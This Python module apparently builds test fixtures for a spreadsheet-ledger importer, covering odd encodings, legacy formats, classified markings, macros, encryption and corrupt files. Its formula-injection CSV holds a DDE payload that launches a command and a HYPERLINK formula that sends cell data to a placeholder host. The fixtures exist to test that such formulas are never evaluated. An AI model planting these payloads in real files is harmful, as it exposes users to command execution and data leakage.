"""Ledgers whose file is nasty: old and odd formats, marks of secrecy, macros, what cannot be opened at all."""

# ruff: noqa: E501 - a row of a ledger is easier to check on one line than broken into three

from __future__ import annotations

import io
import shutil
import subprocess
import tempfile
from datetime import date, datetime
from pathlib import Path

import xlsxwriter
from books import UNITS, Book, Formula, Shown
from containers import binary_workbook, changed, vba_project
from expected import Expected
from PIL import Image, ImageDraw
from values import with_external_link

MONTH = "2026-05"


def converted(data: bytes, kind: str) -> bytes | None:
    """The workbook as LibreOffice saves it in ``kind`` ("ods", "xls"); None where LibreOffice is not installed."""
    program = shutil.which("soffice")
    if program is None:
        return None
    kinds = {"xls": "xls:MS Excel 97", "ods": "ods:calc8"}
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / "ledger.xlsx").write_bytes(data)
        subprocess.run(
            [program, f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to", kinds[kind],
             "--outdir", folder, f"{folder}/ledger.xlsx"],
            check=True, capture_output=True, timeout=180,
        )  # fmt: skip
        return (Path(folder) / f"ledger.{kind}").read_bytes()


def comma_separated() -> tuple[bytes, Expected]:
    lines = [
        "云川市2026年5月规模以上工业主要产品产量,,,,,",
        ",,,,,单位：吨",
        "序号,县区,产品名称,本月产量,1-5月累计,备注",
        '1,望溪区,水泥,"12,345.6","56,789.1","含㙍头厂，停产3天"',
        '2,白渡区,水泥,"9,870","45,600.5 ",""',
        '3,松岭县,"水泥, 特种","1,200",5600,"检修\r\n（5月3日—9日），减产200吨"',
        '4,桐岭县,饲料,３３０,"1,650","""川丰""牌"',
        "5,石滩县,饲料,-,120,5月停产",
        '6,云川高新区,发电量（万千瓦时）,"4,010","21,000",𠮷达电厂',
        ",,,,,",
        '合计,,,,"130,759.6",',
        "注：本表为快报数，与年报有出入。,,,,,",
    ]
    expected = Expected(
        "GB18030编码的CSV：首行标题、次行单位在末列、引号内有逗号和换行、引号转义、四字节汉字、尾随逗号；不同产品和单位相加的合计；一行自带单位"
    )
    expected.table(
        (3, 3), [4, 5, 6, 7, 8, 9], {1: "序号", 2: "县区", 3: "产品名称", 4: "本月产量", 5: "1-5月累计", 6: "备注"},
        totals=(11,), unit="吨", footnotes=("A12",), column_units={},
    )  # fmt: skip
    for row, unit, product, month, so_far in (
        (4, "望溪区", "水泥产量", "12345.6", "56789.1"), (5, "白渡区", "水泥产量", "9870", "45600.5"),
        (6, "松岭县", "水泥, 特种产量", "1200", "5600"), (7, "桐岭县", "饲料产量", "330", "1650"),
        (8, "石滩县", "饲料产量", "", "120"),
    ):  # fmt: skip
        if month:
            expected.figure(f"D{row}", unit, product, MONTH, "current", month, "吨")
        expected.figure(f"E{row}", unit, product, MONTH, "cumulative", so_far, "吨")
    expected.figure("D9", "云川高新区", "发电量", MONTH, "current", 4010, "万千瓦时", note="行内单位优先")
    expected.figure("E9", "云川高新区", "发电量", MONTH, "cumulative", 21000, "万千瓦时", note="行内单位优先")
    expected.missing("D8", "D11")
    expected.ask("E11", "合计把吨和万千瓦时、不同产品加在一起")
    expected.never("A4", "A5", "A6", "A7", "A8", "A9")
    expected.content["rows_are"] = "records: a line break inside quotes does not begin a new row"
    return ("\r\n".join(lines) + "\r\n").encode("gb18030"), expected


def formula_injection() -> tuple[bytes, Expected]:
    lines = [
        "2026年5月社会消费品零售总额,,,",
        "县区,本月（亿元）,同比增长%,备注",
        '望溪区,21.3,+5.6,"=HYPERLINK(""http://example.invalid/?x=""&B3,""点这里"")"',
        "白渡区,17.8,-3.2,@SUM(B3:B4)",
        "松岭县,=9+0.25,-2+3,\"=cmd|' /C calc'!A0\"",
        '桐岭县,"=""7.0""",5,"\t=1+1"',
        "-石滩县,3.1,2.8,+86 999 5550123",
        '云川高新区,4.4,=-6.9,"-备注以减号开头"',
    ]
    expected = Expected(
        "UTF-8带BOM的CSV，含公式注入；+5.6、-3.2是数，=9+0.25、-2+3是公式，都不得计算；县区名、备注以- + = @开头，导出时须转义"
    )
    expected.table((2, 2), list(range(3, 9)), {1: "县区", 2: "本月（亿元）", 3: "同比增长%", 4: "备注"},
                   column_units={2: "亿元", 3: "%"})  # fmt: skip
    retail = "社会消费品零售总额"
    for row, value in ((3, "21.3"), (4, "17.8"), (7, "3.1"), (8, "4.4")):
        expected.figure(f"B{row}", UNITS[row - 3], retail, MONTH, "current", value, "亿元")
    for row, value in ((3, "5.6"), (4, "-3.2"), (6, "5"), (7, "2.8")):
        expected.figure(f"C{row}", UNITS[row - 3], retail, MONTH, "current", value, "%")
    why = "CSV里的公式只是文本，没有存值：请在表格软件里另存为.xlsx，或改成数"
    expected.refuse("B5", why)
    expected.refuse("C5", why)
    expected.refuse("C8", why)
    expected.ask("B6", '="7.0"是表格软件防止改格式的写法，数是7.0', value="700000000")
    expected.content["escape_when_written"] = ["D3", "D4", "D5", "D6", "A7", "D7", "D8"]
    return b"\xef\xbb\xbf" + "\n".join(lines).encode(), expected


def tab_separated() -> tuple[bytes, Expected]:
    lines = [
        "填报单位：云川市交通运输局\t\t\t单位：万人次、万吨",
        "",
        "县区\t客运量\t货运量\t港口吞吐量",
        "\t5月\t1-5月\t5月\t1-5月\t5月",
        "望溪区\t41.2\t203.5\t120\t600.5\t—",
        "白渡区\t30\t151\t88.5\t430\t12.6",
        "松岭县\t\t60.6\t35\t170.2",
    ]
    expected = Expected(
        "系统导出的UTF-16制表符文件，扩展名.tsv；两层表头但合并信息已丢；行尾列数不齐；标题只有填报单位，没有年份；单位两种"
    )
    expected.table(
        (3, 4), [5, 6, 7],
        {1: "县区", 2: "客运量/5月", 3: "客运量/1-5月", 4: "货运量/5月", 5: "货运量/1-5月", 6: "港口吞吐量/5月"},
        unit="万人次、万吨", column_units={2: "万人次", 3: "万人次", 4: "万吨", 5: "万吨", 6: "万吨"},
    )  # fmt: skip
    expected.ask("B4", "没有年份：5月是哪一年的5月")
    expected.ask("B3", "表头合并已丢，“客运量”“货运量”“港口吞吐量”各管哪几列须问")
    expected.missing("F5", "B7", "F7")
    expected.content["figures_after_answer"] = "once the year 2026 and the header are confirmed"
    for row, unit, values in ((5, "望溪区", ["41.2", "203.5", "120", "600.5", ""]),
                              (6, "白渡区", ["30", "151", "88.5", "430", "12.6"]),
                              (7, "松岭县", ["", "60.6", "35", "170.2", ""])):  # fmt: skip
        for column, value, indicator, basis in zip(
            "BCDEF", values, ["客运量"] * 2 + ["货运量"] * 2 + ["港口吞吐量"],
            ["current", "cumulative"] * 2 + ["current"], strict=True,
        ):  # fmt: skip
            if value:
                measure = "万人次" if indicator == "客运量" else "万吨"
                expected.figure(f"{column}{row}", unit, indicator, MONTH, basis, value, measure)
    return b"\xff\xfe" + "\r\n".join(lines).encode("utf-16-le"), expected


def open_document() -> tuple[bytes | None, Expected]:
    book = Book()
    sheet = book.sheet("旅游")
    sheet.title("A1:F1", "云川市2026年国内旅游情况")
    sheet.plain("F2", "单位：万人次、亿元")
    sheet.merge("A3:A4", "县区")
    sheet.merge("B3:B4", "月份")
    sheet.merge("C3:D3", "接待人次")
    sheet.merge("E3:F3", "旅游收入")
    sheet.rows(
        "C4",
        [
            ["本月", "同比"],
        ],
        bold=True,
    )
    sheet.rows("E4", [["本月", "同比"]], bold=True)
    sheet.merge("A5:A7", "望溪区")
    sheet.merge("A8:A10", "白渡区")
    body = [(41.2, 0.056, 3.1, 0.08), (38.7, -0.012, 2.9, 0), (55.1, 0.1, 4.45, 0.125),
            (12.3, 0.034, 0.8, 0.05), (12.3, 0.034, 0.8, 0.05), (20, 0.2, 1.2, 0.21)]  # fmt: skip
    expected = Expected(
        "LibreOffice存的.ods：重复行列压缩（两行完全相同）、合并表头与竖向合并、百分比样式、日期格显示2026年3月、公式有存值、大片空白"
    )
    for at, (visits, a, money, b) in enumerate(body):
        row, unit, month = 5 + at, UNITS[at // 3], at % 3 + 3
        day = date(2026, month, 1)
        sheet.rows(
            f"B{row}", [[Shown(day, 'yyyy"年"m"月"'), visits, Shown(a, "0.0%"), money, Shown(b, "0.0%")]]
        )
        period = f"2026-{month:02}"
        expected.figure(f"C{row}", unit, "接待游客人次", period, "current", str(visits), "万人次")
        expected.figure(f"D{row}", unit, "接待游客人次", period, "current", str(round(a * 100, 1)), "%")
        expected.figure(f"E{row}", unit, "旅游收入", period, "current", str(money), "亿元")
        expected.figure(f"F{row}", unit, "旅游收入", period, "current", str(round(b * 100, 1)), "%")
    sheet.rows(
        "A11", [["合计", None, Formula("=SUM(C5:C10)", 179.6), None, Formula("=SUM(E5:E10)", 13.25), None]]
    )
    sheet.plain("A40", "注：1-2月数另报。")
    expected.table(
        (3, 4), list(range(5, 11)),
        {1: "县区", 2: "月份", 3: "接待人次/本月", 4: "接待人次/同比", 5: "旅游收入/本月", 6: "旅游收入/同比"}, sheet="旅游",
        totals=(11,), unit="万人次、亿元", footnotes=("A40",), column_units={3: "万人次", 4: "%", 5: "亿元", 6: "%"},
    )  # fmt: skip
    expected.missing("D11", "F11")
    expected.ask("C11", "合计只含两个区、跨三个月，不是某月全市数")
    return converted(book.data(), "ods"), expected


def _old_format() -> tuple[bytes, Expected]:
    book = Book()
    sheet = book.sheet("财政")
    sheet.title("A1:G1", "2026年5月财政收支情况表")
    sheet.plain("A2", "编制单位：云川市财政局")
    sheet.plain("G2", "金额单位：万元")
    sheet.merge("A3:A4", "县区")
    sheet.merge("B3:D3", "一般公共预算收入")
    sheet.merge("E3:G3", "一般公共预算支出")
    sheet.rows("B4", [["本月", "累计", "±%", "本月", "累计", "±%"]])
    body = [("市本级", 9000, 41000, 1.1, 15000, 88000, 3.3), ("望溪区", 32100, 159700, 4.4, 41000, 201000, 0.6),
            ("白渡区", 27500, 136000, -2.1, 36000, 170500, -1.9), ("松岭县", 10800, 55200, 6.6, 20100, 99000, 5)]  # fmt: skip
    sheet.rows("A5", [list(line) for line in body])
    sheet.rows(
        "A9",
        [
            [
                "合计",
                *(
                    Formula(f"=SUM({c}5:{c}8)", sum(int(line[at]) for line in body))
                    if at in (1, 2, 4, 5)
                    else ""
                    for at, c in enumerate("BCDEFG", 1)
                ),
            ]
        ],
    )
    expected = Expected("Excel 97格式：两层合并表头、公式合计有存值、“市本级”一行、±%列")
    expected.table(
        (3, 4), [5, 6, 7, 8],
        {1: "县区", 2: "一般公共预算收入/本月", 3: "一般公共预算收入/累计", 4: "一般公共预算收入/±%", 5: "一般公共预算支出/本月", 6: "一般公共预算支出/累计", 7: "一般公共预算支出/±%"},
        sheet="财政", totals=(9,), unit="万元", column_units={4: "%", 7: "%"},
    )  # fmt: skip
    for row, (unit, *values) in enumerate(body[1:], 6):
        for column, value, (indicator, basis, measure) in zip(
            "BCDEFG", values,
            [(name, basis, measure) for name in ("一般公共预算收入", "一般公共预算支出")
             for basis, measure in (("current", "万元"), ("cumulative", "万元"), ("cumulative", "%"))],
            strict=True,
        ):  # fmt: skip
            expected.figure(f"{column}{row}", unit, indicator, MONTH, basis, str(value), measure)
    expected.ask("A5", "“市本级”不是全市，也不在单位表里")
    expected.ask("C9", "合计只含市本级和三个县区，不是全市")
    expected.missing("D9", "G9")
    return book.data(), expected


def old_format() -> tuple[bytes | None, Expected]:
    data, expected = _old_format()
    return converted(data, "xls"), expected


def wps_format() -> tuple[bytes | None, Expected]:
    data, expected = old_format()
    expected.content["about"] = "WPS的.et（与Excel 97同构）：" + expected.content["about"]
    return data, expected


def binary_format() -> tuple[bytes, Expected]:
    grid: list[list[object]] = [
        ["2026年1-5月进出口总额（万美元）", None, None, None],
        ["县区", "进口", "出口", "累计同比%"],
        ["望溪区", 1200.0, 3400.0, 5.6],
        ["白渡区", 560.0, 2100.0, -1.2],
        ["松岭县", None, "８８", "#DIV/0!"],
        ["桐岭县", "—", 12.5, "持平"],
        [None, None, None, None],
        ["合计", 1760.0, 5600.5, 3.3],
    ]
    expected = Expected("二进制工作簿.xlsb：标题合并、空格、文本数字、错误值、空行后才是合计")
    expected.table((2, 2), [3, 4, 5, 6], {1: "县区", 2: "进口", 3: "出口", 4: "累计同比%"}, sheet="外贸", totals=(8,),
                   unit="万美元", column_units={4: "%"})  # fmt: skip
    for cell, unit, name, value in (("B3", "望溪区", "进口总额", "1200"), ("C3", "望溪区", "出口总额", "3400"),
                                    ("B4", "白渡区", "进口总额", "560"), ("C4", "白渡区", "出口总额", "2100"),
                                    ("C5", "松岭县", "出口总额", "88"), ("C6", "桐岭县", "出口总额", "12.5")):  # fmt: skip
        expected.figure(cell, unit, name, MONTH, "cumulative", value, "万美元")
    expected.missing("B5", "B6")
    expected.refuse("D5", "错误值#DIV/0!")
    expected.ask("D3", "进口、出口两列后的“累计同比%”是进口、出口还是进出口的同比")
    expected.ask("B8", "合计只含列出的四个县区，石滩县和高新区没有列")
    return binary_workbook("外贸", grid, [(0, 0, 0, 3)]), expected


def projects() -> tuple[bytes, Expected]:
    book = Book()
    sheet = book.sheet("重点项目")
    sheet.title("A1:L1", "云川市2026年重点项目推进台账（截至2026年5月底）")
    header = ["序号", "项目编码", "项目名称", "责任单位", "联系电话", "开工日期", "竣工日期", "计划总投资（亿元）",
              "年度计划（万元）", "1-5月完成（万元）", "形象进度", "备注"]  # fmt: skip
    sheet.rows("A2", [header], text_wrap=True)
    rows: list[list[object]] = [
        [
            1,
            2601010000000012,
            "秘密花园文旅小镇",
            "望溪区",
            19900000111,
            "15/03/2026",
            46357,
            12.5,
            30000,
            14200,
            "3号楼封顶，完成60%",
            "商业秘密已脱敏",
        ],
        [
            2,
            "260102-2",
            "白渡智能装备产业园（二期）",
            "白渡区",
            "0999-5550112",
            "03/04/2026",
            "2027.6",
            "8.8",
            "25,000",
            "9,870",
            "完成土方2.3万方",
            "1/3已供地",
        ],
        [
            3,
            "260103",
            "松岭光伏300MW",
            "松岭县",
            "5550113/5550114",
            "2026.3",
            "2026年底",
            "约15",
            40000,
            "超2.1万",
            "累计并网120MW",
            "机密设备除外",
        ],
        [4, "260104", "保密局旧址改造", "市城管局", 5550115, "未开工", "待定", 0.3, 3000, 0, "-", ""],
        [None, None, "合　计", None, None, None, None, "约36.6", 98000, 45070, None, "4项"],
    ]
    sheet.rows("A3", rows)
    sheet.plain("A9", "说明：1.联系电话仅供内部使用。2.“约”为估算数。")
    expected = Expected(
        "项目台账：序号、编码、电话都是数字；日在前的文本日期，03/04/2026两可；日期是序列数；“秘密”“机密”“保密”出现在项目名和备注里，并非定密标志"
    )
    expected.table(
        (2, 2), [3, 4, 5, 6],
        dict(enumerate(header, 1)), sheet="重点项目", totals=(7,), footnotes=("A9",),
        column_units={8: "亿元", 9: "万元", 10: "万元"},
    )  # fmt: skip
    note = "项目数归项目，不归责任单位；只有合计行是全市重点项目的数"
    invest = "重点项目投资"
    expected.figure("I7", "云川市", invest, "2026", "current", 98000, "万元", aspect="target", note=note)
    expected.figure("J7", "云川市", invest, MONTH, "cumulative", 45070, "万元", note=note)
    expected.figure(
        "H7", "云川市", "重点项目计划总投资", "2026", "current", "36.6", "亿元", qualifier="约", note=note
    )
    expected.ask("F4", "03/04/2026：3月4日还是4月3日；同列15/03/2026表明日在前", date="2026-04-03")
    expected.ask("J5", "“超2.1万”在万元列里：2.1万元还是2.1亿元", value="210000000", qualifier="超")
    expected.ask("D6", "责任单位是市级部门，不是县区")
    expected.content["dates"] = {"F3": "2026-03-15", "G3": "2026-12-01", "F5": "2026-03", "G4": "2027-06"}
    for row in range(3, 7):
        expected.never(f"A{row}", f"B{row}", f"E{row}", f"K{row}")
    return book.data(), expected


def secret_at_head() -> tuple[bytes, Expected]:
    book = Book()
    sheet = book.sheet("Sheet1")
    sheet.plain("A1", "机密★1年")
    sheet.title("A2:C2", "2026年5月专项情况统计表")
    sheet.rows(
        "A3",
        [["县区", "户数", "金额（万元）"], *[[unit, 3 + at, 1200 + at] for at, unit in enumerate(UNITS)]],
    )
    return book.data(), Expected(
        "左上角标“机密★1年”", "表头标有定密标志“机密★1年”：涉密文件不得导入，什么也不读、不留存"
    )


def secret_on_second_sheet() -> tuple[bytes, Expected]:
    book = Book()
    sheet = book.sheet("公开")
    sheet.title("A1:B1", "2026年5月用电量（万千瓦时）")
    sheet.rows("A2", [["县区", "本月"], *[[unit, 1000 + at] for at, unit in enumerate(UNITS)]])
    second = book.sheet("附表")
    second.plain("D1", "秘　密 ★ 长期")
    second.rows("A3", [["单位", "数量"], ["望溪区", 3]])
    return book.data(), Expected(
        "第一张表无标志，第二张表右上角标“秘　密 ★ 长期”，字间有空格",
        "“附表”标有定密标志“秘密★长期”：整个文件不得导入，公开的那张也不读",
    )


def secret_in_page_header() -> tuple[bytes, Expected]:
    book = Book()
    sheet = book.sheet("Sheet1")
    sheet.title("A1:B1", "2026年5月情况")
    sheet.rows("A2", [["县区", "金额（万元）"], *[[unit, 1000 + at] for at, unit in enumerate(UNITS)]])
    sheet.sheet.set_header('&L云川市&R&"黑体"绝密★10年')
    return book.data(), Expected(
        "定密标志只在打印页眉里，单元格里没有", "页眉标有定密标志“绝密★10年”：涉密文件不得导入"
    )


def empty() -> tuple[bytes, Expected]:
    book = Book()
    book.sheet("Sheet1")
    sheet = book.sheet("Sheet2")
    sheet.rows("B2", [[None, None], [" ", "　"], [None, "\n"]])
    return book.data(), Expected("第一张表全空，第二张表只有边框、空格和换行", "没有表格：文件里没有任何内容")


def picture_only() -> tuple[bytes, Expected]:
    picture = Image.new("1", (360, 120), 1)
    draw = ImageDraw.Draw(picture)
    for across in range(0, 360, 90):
        draw.line((across, 0, across, 119), fill=0)
    for down in range(0, 120, 30):
        draw.line((0, down, 359, down), fill=0)
    draw.text((8, 38), "WANGXI 41.27", fill=0)
    png = io.BytesIO()
    picture.save(png, "PNG")
    book = Book()
    book.sheet("Sheet1").sheet.insert_image("B2", "table.png", {"image_data": io.BytesIO(png.getvalue())})
    return book.data(), Expected(
        "只贴了一张表格的截图", "没有表格：工作表里只有图片，图片里的数不读；请交表格本身"
    )


def encrypted() -> tuple[bytes | None, Expected]:
    expected = Expected("设了打开密码（ECMA-376加密，OLE容器）", "文件有打开密码，无法读取：请去掉密码后再交")
    program = shutil.which("msoffcrypto-tool")
    if program is None:
        return None, expected
    book = Book()
    book.sheet("Sheet1").rows("A1", [["县区", "本月（万元）"], ["望溪区", 3210]])
    with tempfile.TemporaryDirectory() as folder:
        plain, locked = Path(folder) / "plain.xlsx", Path(folder) / "locked.xlsx"
        plain.write_bytes(book.data())
        subprocess.run(
            [program, "-e", "-p", "yunchuan", str(plain), str(locked)], check=True, capture_output=True
        )
        return locked.read_bytes(), expected


def protected_sheet() -> tuple[bytes, Expected]:
    book = Book()
    sheet = book.sheet("保护")
    sheet.title("A1:C1", "2026年5月税收收入（万元）")
    sheet.rows("A2", [["县区", "本月", "累计"]])
    expected = Expected("工作表和工作簿结构都设了保护密码，但没有打开密码：照常能读")
    for row, unit in enumerate(UNITS, 3):
        month, so_far = 2100 + row * 11, 10300 + row * 57
        sheet.rows(f"A{row}", [[unit, month, so_far]])
        expected.figure(f"B{row}", unit, "税收收入", MONTH, "current", month, "万元")
        expected.figure(f"C{row}", unit, "税收收入", MONTH, "cumulative", so_far, "万元")
    sheet.sheet.protect("yunchuan")
    expected.table((2, 2), list(range(3, 9)), {1: "县区", 2: "本月", 3: "累计"}, sheet="保护", unit="万元")
    data = changed(
        book.data(),
        {"xl/workbook.xml": lambda text: text.replace("<bookViews>", '<workbookProtection workbookPassword="83AF" lockStructure="1"/><bookViews>')},
    )  # fmt: skip
    return data, expected


def macro_and_links() -> tuple[bytes, Expected]:
    out = io.BytesIO()
    workbook = xlsxwriter.Workbook(out, {"in_memory": True})
    workbook.set_properties({"created": datetime(2026, 6, 8, 9, 30)})
    source = 'Sub Auto_Open()\r\n  Range("E1").Value = "' + "云川" + '"\r\nEnd Sub\r\n'
    workbook.add_vba_project(io.BytesIO(vba_project("Module1", source)), is_stream=True)
    book = Book()
    book.out, book.workbook = out, workbook
    sheet = book.sheet("上报")
    sheet.title("A1:D1", "2026年5月工业投资（万元）")
    sheet.rows("A2", [["县区", "本月", "累计", "去年同期累计"]])
    expected = Expected(
        "含宏（打开时自动运行）、外部链接公式（有存值、无存值）、DDE样式的文本、按钮；宏不得运行，输出时宏和外部链接都不留"
    )
    why = "公式没有存值，又引用外部工作簿"
    for row, unit in enumerate(UNITS, 3):
        month, so_far = 3100 + row * 101, 15000 + row * 707
        last = Formula(f"=[1]去年!$E${row}", None if row == 5 else 14000 + row)
        sheet.rows(f"A{row}", [[unit, month, so_far, last]])
        expected.figure(f"B{row}", unit, "工业投资", MONTH, "current", month, "万元")
        expected.figure(f"C{row}", unit, "工业投资", MONTH, "cumulative", so_far, "万元")
        if row == 5:
            expected.refuse("D5", why)
        else:
            expected.figure(
                f"D{row}", unit, "工业投资", "2025-05", "cumulative", 14000 + row, "万元", computed=True
            )
    sheet.sheet.insert_button("F2", {"macro": "Auto_Open", "caption": "汇总"})
    expected.table(
        (2, 2),
        list(range(3, 9)),
        {1: "县区", 2: "本月", 3: "累计", 4: "去年同期累计"},
        sheet="上报",
        unit="万元",
    )
    return with_external_link(book.data()), expected


def cut_off() -> tuple[bytes, Expected]:
    book = Book()
    book.sheet("Sheet1").rows(
        "A1", [["县区", "本月（万元）"], *[[unit, 100 + at] for at, unit in enumerate(UNITS * 20)]]
    )
    data = book.data()
    return data[: len(data) * 2 // 3], Expected(
        "没传完的文件：只有前三分之二", "文件不完整或已损坏，无法打开：请重新取得文件"
    )


def web_page_as_workbook() -> tuple[bytes, Expected]:
    rows = "".join(f"<tr><td>{unit}</td><td>{100 + at}</td></tr>" for at, unit in enumerate(UNITS))
    page = (
        '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="gb2312"></head><body><table border=1>'
        f"<tr><td colspan=2>2026年5月新增企业（户）</td></tr><tr><td>县区</td><td>本月</td></tr>{rows}</table></body></html>"
    )
    return page.encode("gb18030"), Expected(
        "业务系统“导出Excel”实为网页，扩展名.xls，GB2312编码",
        "文件内容是网页，不是.xls工作簿：请用表格软件打开后另存为.xlsx",
    )
